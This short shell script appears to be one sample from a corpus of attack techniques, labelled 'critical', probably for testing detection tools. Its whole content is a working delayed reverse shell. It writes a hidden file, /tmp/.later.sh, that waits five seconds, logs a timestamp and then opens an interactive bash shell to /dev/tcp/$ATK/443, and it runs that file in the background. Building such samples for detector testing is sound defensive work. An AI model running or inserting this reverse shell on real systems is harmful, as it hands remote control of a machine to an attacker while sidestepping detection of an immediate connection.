# SPDX-License-Identifier: MIT
# technique: a reverse shell that connects only after a delay
# level: critical
# quick: no
cat >/tmp/.later.sh <<X
sleep 5
date +%s%N >$CORPUS_OUT/t0
bash -i >& /dev/tcp/$ATK/443 0>&1
X
bash /tmp/.later.sh &
wait
